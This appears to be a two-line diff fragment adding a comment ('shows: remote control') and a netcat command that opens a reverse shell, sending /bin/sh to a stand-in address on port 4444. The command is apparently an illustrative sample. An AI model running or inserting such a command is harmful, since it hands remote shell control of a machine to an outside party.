@@ -1,0 +1,2 @@
+# shows: remote control
+nc -e /bin/sh 198.51.100.9 4444
